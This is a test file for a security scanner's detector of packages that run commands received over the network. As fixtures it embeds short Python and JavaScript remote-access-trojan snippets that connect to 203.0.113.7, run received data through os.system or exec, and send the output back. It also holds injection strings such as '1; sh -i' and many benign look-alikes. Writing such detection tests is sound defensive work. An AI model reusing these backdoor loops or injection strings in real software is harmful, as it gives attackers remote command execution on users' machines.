// Review of round s28, task A: "Runs commands received from the network" (packages/received-command.ts).
// Round s28 read network data as a mere argument when a command line's constant text showed a fixed
// program, and lost RATs that put a harmless command or a wrapper before the data
// (`"cd /tmp && " + cmd`, `f"timeout 30 {cmd}"`, `"true; " + cmd`, `"sudo %s" % cmd`,
// `` `cd /tmp && ${d}` ``, `'nice -n 10 ' + cmd`; samples pkg-rat-py1..6, pkg-rat-js1..2). Unquoted in
// a command line, the data can always end the fixed command and start its own (`1; sh -i`): only an
// argument vector of a fixed program, or a line that quotes the data for the shell, leaves it an argument.
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import type { CallFact } from './code/code-facts.js';
import { javascriptFacts } from './code/javascript/index.js';
import { pythonFacts } from './code/python-facts.js';
import { analyzePackage } from './packages/analyze-package.js';
import { receivedDataIsCommand, type CommandShape } from './packages/received-command.js';
import { analyzeRepository } from './repositories/analyze-repository.js';

const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const repo = async (files: Record<string, string>): Promise<AgentResult> => analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);
const serious = (r: AgentResult) => r.findings.filter((f) => f.severity === 'CRIT' || f.severity === 'HIGH').map((f) => `${f.severity} ${f.title}`);
const setupPy = (name: string) => `from setuptools import setup\nsetup(name="${name}", version="1.0.0", packages=["${name}"])\n`;
const pyproject = (name: string) => `[project]\nname = "${name}"\nversion = "0.3.1"\n`;
const RECEIVED = 'CRIT Runs commands received from the network';

/** Whether each process call that network data reaches is read as running that data. */
const judged = (code: string, language: 'javascript' | 'python') => {
  const facts = language === 'python' ? pythonFacts(code) : javascriptFacts(code);
  return facts.calls.filter((c) => c.argLabels.includes('remote') && /exec|spawn|system|popen|Popen|run|check_output|getoutput|fork/i.test(c.callee)).map((c) => receivedDataIsCommand(c, language));
};
const PY_SOCKET = 'import os, subprocess, sys, socket\ns = socket.create_connection(("203.0.113.7", 4444))\ncmd = s.recv(4096).decode()\n';
const JS_SOCKET = "const cp = require('child_process'), net = require('net');\nnet.connect(4444, '203.0.113.7').on('data', (d) => {\n  const c = d.toString();\n";

describe('network data as an argument of a fixed program started without a shell (benign look-alikes first)', () => {
  it('leaves a conftest that starts a local server as an argument vector, stops it with kill and reads its logs', async () => {
    const conftest = [
      'import os',
      'import socket',
      'import subprocess',
      'import sys',
      'import time',
      '',
      'import pytest',
      'import requests',
      '',
      '',
      'def _free_port():',
      '    s = socket.socket()',
      '    s.bind(("127.0.0.1", 0))',
      '    port = s.getsockname()[1]',
      '    s.close()',
      '    return port',
      '',
      '',
      '@pytest.fixture(scope="session")',
      'def api_server():',
      '    port = _free_port()',
      '    proc = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"])',
      '    url = f"http://127.0.0.1:{port}"',
      '    info = None',
      '    for _ in range(50):',
      '        try:',
      '            info = requests.get(url + "/status.json", timeout=1).json()',
      '            break',
      '        except requests.ConnectionError:',
      '            time.sleep(0.1)',
      '    yield url',
      '    subprocess.run(["kill", "-TERM", str(info["pid"])], check=False)',
      '    subprocess.run(["docker", "logs", "--tail", "20", info["container"]], check=False)',
      '    subprocess.run(["systemctl", "--user", "restart", info["unit"]], check=False)',
      '    proc.wait()',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': pyproject('svc'), 'tests/conftest.py': conftest, 'tests/test_api.py': 'def test_api(api_server):\n    assert api_server\n' });
    expect(titles(r)).not.toContain(RECEIVED);
    expect(serious(r)).toEqual([]);
  });

  it('leaves a Node test setup that passes what a local health endpoint returned to kill and to its own script as arguments', async () => {
    const setup = [
      "const { execFileSync, spawn } = require('child_process');",
      "const path = require('path');",
      'module.exports = async function globalSetup() {',
      "  const res = await fetch('http://127.0.0.1:4010/health');",
      '  const info = await res.json();',
      "  execFileSync('kill', ['-0', String(info.pid)]);",
      "  spawn(process.execPath, [path.join(__dirname, 'fixtures', 'seed.js'), '--port', String(info.port)], { stdio: 'inherit' });",
      '};',
    ].join('\n');
    const r = await repo({ 'package.json': JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { test: 'jest' } }), 'jest.config.js': "module.exports = { globalSetup: './test/setup.js' };\n", 'test/setup.js': setup });
    expect(titles(r)).not.toContain(RECEIVED);
    expect(serious(r)).toEqual([]);
  });

  it('reads data outside a constant command line (its working directory, its input, @actions/exec’s argument vector) as no command', () => {
    const head = "const cp = require('child_process');\nconst exec = require('@actions/exec');\nmodule.exports = async () => {\n  const info = await (await fetch('https://api.example/build')).json();\n";
    expect(judged(`${head}  cp.execSync('make build', { cwd: info.dir });\n  cp.execSync('cat', { input: info.notes });\n  await exec.exec('git', ['checkout', info.sha]);\n};\n`, 'javascript')).toEqual([false, false, false]);
    // A shell or interpreter reading the data on its standard input runs it; a wrapper given it as its program runs it.
    expect(judged(`${head}  cp.execSync('sh', { input: info.script });\n  cp.execSync('python3 -', { input: info.script });\n  await exec.exec('sudo', [info.cmd]);\n};\n`, 'javascript')).toEqual([true, true, true]);
    expect(judged(`${PY_SOCKET}subprocess.run("bash", shell=True, input=cmd)\nsubprocess.run("sort -u", shell=True, input=cmd)\n`, 'python')).toEqual([true, false]);
  });

  it('reads socket data in an argument slot of a fixed program’s argument vector as an argument', () => {
    expect(judged(`${PY_SOCKET}subprocess.run(["kill", "-TERM", cmd])\nsubprocess.run(["timeout", "10", "curl", "-s", cmd])\nsubprocess.run([sys.executable, "-m", "http.server", cmd])\n`, 'python')).toEqual([false, false, false]);
    expect(judged(`${JS_SOCKET}  cp.execFile('kill', ['-0', c]);\n  cp.spawn('sudo', ['-u', 'www', 'kill', c]);\n});\n`, 'javascript')).toEqual([false, false]);
  });
});

describe('network data in a command line stays a command whatever constant text comes before it', () => {
  const RAT_PY = (line: string) => `import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nwhile True:\n    cmd = s.recv(4096).decode()\n    ${line}\n`;
  const ratLines = [
    'out = subprocess.getoutput("cd /tmp && " + cmd); s.send(out.encode())',
    'out = subprocess.check_output(f"timeout 30 {cmd}", shell=True); s.send(out)',
    'os.system("true; " + cmd)',
    'out = subprocess.run(f"echo ok; {cmd}", shell=True, capture_output=True).stdout; s.send(out)',
    'os.system("sudo %s" % cmd)',
    'out = subprocess.check_output("sh -c " + repr(cmd), shell=True); s.send(out)',
  ];
  for (const line of ratLines) {
    it(`is CRIT for a Python RAT that runs ${line.split(';')[0]!.replace(/^out = /, '')}`, async () => {
      const r = await pkg({ 'setup.py': setupPy('ratpy'), 'ratpy/__init__.py': '', 'ratpy/agent.py': RAT_PY(line) });
      expect(titles(r)).toContain(RECEIVED);
      expect(r.verdict).toBe('BLOCK');
    });
  }

  it('is CRIT for JavaScript that runs socket data after `cd /tmp &&` in a template literal and response text after `nice -n 10`', async () => {
    const socketRat = "const net = require('net');\nconst { exec } = require('child_process');\nconst c = net.connect(4444, '203.0.113.7');\nc.on('data', (d) => exec(`cd /tmp && ${d.toString()}`, (e, out) => c.write(out)));\n";
    const pollRat = "const { exec } = require('child_process');\nsetInterval(async () => {\n  const r = await fetch('https://203.0.113.7/task');\n  const cmd = await r.text();\n  exec('nice -n 10 ' + cmd, (e, out) => fetch('https://203.0.113.7/out', { method: 'POST', body: out }));\n}, 5000);\n";
    for (const code of [socketRat, pollRat]) {
      const r = await pkg({ 'package.json': JSON.stringify({ name: 'ratjs', version: '1.0.0', main: 'index.js' }), 'index.js': code });
      expect(titles(r)).toContain(RECEIVED);
    }
  });

  it('reads data after a fixed program in a command line as a command (`kill 1; sh -i`), in Python and JavaScript', () => {
    expect(judged(`${PY_SOCKET}os.system("kill -9 %s 2>/dev/null" % cmd)\nos.system("kill " + cmd)\nsubprocess.run(f"moto_server -p {cmd}", shell=True)\nsubprocess.run(["kill", cmd], shell=True)\n`, 'python')).toEqual([true, true, true, true]);
    expect(judged(`${JS_SOCKET}  cp.execSync('kill ' + c);\n  cp.exec(\`git checkout \${c}\`);\n  cp.spawn('kill', [c], { shell: true });\n});\n`, 'javascript')).toEqual([true, true, true]);
  });

  it('reads a computed part in a program or wrapper-target slot of an argument vector as the command (`%s`, `?`)', () => {
    expect(judged(`${PY_SOCKET}subprocess.run(["sudo", "%s" % cmd])\nsubprocess.run(["sudo", f"/usr/bin/{cmd}"])\nsubprocess.run(["timeout", "30", f"{cmd}"])\n`, 'python')).toEqual([true, true, true]);
    expect(judged(`${JS_SOCKET}  cp.spawn('sudo', [\`/usr/bin/\${c}\`]);\n  cp.execFile('nice', ['-n', '10', \`\${c}\`]);\n});\n`, 'javascript')).toEqual([true, true]);
  });
});

/** A process call that network data reaches, with the constant strings and shape a reader gives. */
const call = (callee: string, argStrings: string[], shape: CommandShape & { options?: Record<string, string>; args?: (string | null)[] } = {}): CallFact & CommandShape => ({
  callee,
  line: 1,
  args: [null],
  argLabels: ['remote'],
  argStrings,
  options: {},
  unref: false,
  isNew: false,
  topLevel: false,
  onChannel: false,
  directDecode: false,
  ...shape,
});

describe('the shape a reader gives: an argument vector element by element, a line quoted for the shell', () => {
  it('leaves ssh with a host from data and a constant remote command; not a computed remote command or an interactive login', () => {
    // `subprocess.run(["ssh", h["addr"], "uptime"])`: the constant strings hold `addr` from inside the host's expression.
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', 'addr', 'uptime'], { argv: ['ssh', null, 'uptime'] }), 'python')).toBe(false);
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', '-o', 'BatchMode=yes', '-i', 'id', 'addr', 'uptime'], { argv: ['ssh', '-o', 'BatchMode=yes', '-i', null, null, 'df -h /'] }), 'python')).toBe(false);
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', 'host.example', 'cmd'], { argv: ['ssh', 'host.example', null] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', 'addr', 'uptime', 'x'], { argv: ['ssh', null, 'uptime', null] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', 'addr'], { argv: ['ssh', null] }), 'python')).toBe(true);
    // Without the elements, `addr` and `cmd` from inside computed parts look alike: ssh stays a command.
    expect(receivedDataIsCommand(call('subprocess.run', ['ssh', 'addr', 'uptime']), 'python')).toBe(true);
  });

  it('reads a vector computed whole, a computed program and a computed wrapper target as the command, whatever constants they hold', () => {
    expect(receivedDataIsCommand(call('subprocess.run', ['argv'], { argv: [null] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['sudo', 'utf-8'], { argv: ['sudo', null] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('child_process.spawn', ['prog', '-v'], { argv: [null, '-v'], args: [null, null] }), 'javascript')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['nice', '-n', '10'], { argv: ['nice', '-n', '10', null] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['docker'], { argv: ['docker', null, 'x'] }), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['node'], { argv: ['node', null] }), 'python')).toBe(true);
    // A fixed program, a script of the package and `python -m` take the data as arguments.
    expect(receivedDataIsCommand(call('subprocess.run', ['kill', 'pid'], { argv: ['kill', '-TERM', null] }), 'python')).toBe(false);
    expect(receivedDataIsCommand(call('child_process.spawn', [], { argv: ['node', '$DIR/fixtures/server.js', null], args: [null, null] }), 'javascript')).toBe(false);
    expect(receivedDataIsCommand(call('subprocess.Popen', ['-m', 'http.server'], { argv: ['python', '-m', 'http.server', null] }), 'python')).toBe(false);
  });

  it('leaves a command line whose data is quoted for the shell in an argument slot; not in a program, wrapper-target or code slot', () => {
    const quoted = (line: string, callee = 'os.system') => receivedDataIsCommand(call(callee, [line], { shellQuoted: true }), 'python');
    expect([quoted('kill -TERM ?'), quoted('kill -9 %s 2>/dev/null'), quoted('kill '), quoted('git checkout {} --quiet', 'subprocess.getoutput')]).toEqual([false, false, false, false]);
    expect([quoted('cd /tmp && ?'), quoted('cd /tmp && '), quoted('sudo %s'), quoted('timeout 30 ?'), quoted('sh -c ?'), quoted('curl -s ? | sh'), quoted('ssh host ?')]).toEqual([true, true, true, true, true, true, true]);
    // Unquoted (or not known to be quoted), the same lines are commands.
    expect(receivedDataIsCommand(call('os.system', ['kill -TERM ?']), 'python')).toBe(true);
    expect(receivedDataIsCommand(call('subprocess.run', ['kill -TERM ?'], { options: { shell: 'True' }, shellQuoted: false }), 'python')).toBe(true);
  });
});

describe('the readers give the argument vector element by element and mark lines quoted for the shell', () => {
  it('leaves an inventory script that runs a constant command over ssh on hosts an API lists (benign look-alike first)', async () => {
    const run = [
      'import subprocess, requests',
      '',
      'def hosts():',
      '    return requests.get("https://inventory.acme.dev/api/hosts", timeout=10).json()["hosts"]',
      '',
      'def uptime_all():',
      '    for h in hosts():',
      '        subprocess.run(["ssh", "-o", "BatchMode=yes", h["addr"], "uptime"], check=False)',
      '        subprocess.run(["ssh", h["addr"], "df -h /"], check=False)',
    ].join('\n');
    const r = await pkg({ 'setup.py': setupPy('inv'), 'inv/__init__.py': '', 'inv/run.py': run });
    expect(titles(r)).not.toContain(RECEIVED);
    const js = "const { execFile } = require('child_process');\nmodule.exports = async () => {\n  const { hosts } = await (await fetch('https://inventory.acme.dev/api/hosts')).json();\n  for (const h of hosts) execFile('ssh', [h.addr, 'uptime'], () => {});\n};\n";
    const rj = await pkg({ 'package.json': JSON.stringify({ name: 'inv', version: '1.0.0', main: 'index.js' }), 'index.js': js });
    expect(titles(rj)).not.toContain(RECEIVED);
  });

  it('is CRIT for ssh whose remote command comes from the API, and for a vector or wrapper target computed from a response', async () => {
    const run = [
      'import subprocess, requests',
      '',
      'def jobs():',
      '    for job in requests.get("https://ops.example/api/jobs", timeout=10).json():',
      '        subprocess.run(["ssh", "deploy@build.example", job["cmd"]], check=False)',
    ].join('\n');
    const r = await pkg({ 'setup.py': setupPy('ops'), 'ops/__init__.py': '', 'ops/run.py': run });
    expect(titles(r)).toContain(RECEIVED);
    expect(judged(`${PY_SOCKET}import json\ntask = json.loads(cmd)\nsubprocess.run(task["argv"])\nsubprocess.run(["sudo", cmd.strip("\\n")])\nsubprocess.run([task["prog"], "-v"])\nsubprocess.run(["nice", "-n", "10"] + task["args"])\n`, 'python')).toEqual([true, true, true, true]);
    expect(judged(`${JS_SOCKET}  cp.spawn('sudo', [d.toString('utf8')]);\n  cp.execFile('ssh', ['host.example', c]);\n  cp.spawn('nice', ['-n', '10', ...c.split(' ')]);\n});\n`, 'javascript')).toEqual([true, true, true]);
  });

  it('leaves a fixed program whose data is quoted for the shell in the call; not JSON.stringify, a quoted program or a quoted wrapper target', () => {
    expect(judged(`${PY_SOCKET}import shlex\nos.system("kill -TERM " + shlex.quote(cmd))\nos.system(f"git checkout {shlex.quote(cmd)} --quiet")\nos.system("kill -9 %d" % int(cmd))\nsubprocess.run("lsof -i :{}".format(int(cmd)), shell=True)\nos.system("kill -9 %d 2>/dev/null" % cmd)\n`, 'python')).toEqual([false, false, false, false, false]);
    expect(judged(`${PY_SOCKET}import shlex\nos.system("sudo " + shlex.quote(cmd))\nos.system(shlex.quote(cmd) + " --version")\nos.system(f"sh -c {shlex.quote(cmd)}")\nq = shlex.quote(cmd)\nos.system("kill " + q)\n`, 'python')).toEqual([true, true, true, true]);
    const head = "const { exec } = require('child_process');\nconst { quote } = require('shell-quote');\nrequire('net').connect(4444, '203.0.113.7').on('data', (d) => {\n  const c = d.toString();\n";
    expect(judged(`${head}  exec('kill -0 ' + quote([c]));\n  exec(\`git checkout \${quote([c])}\`);\n  exec(\`kill \${Number(c)}\`);\n});\n`, 'javascript')).toEqual([false, false, false]);
    expect(judged(`${head}  exec('git checkout ' + JSON.stringify(c));\n  exec(\`sudo \${quote([c])}\`);\n});\n`, 'javascript')).toEqual([true, true]);
  });
});
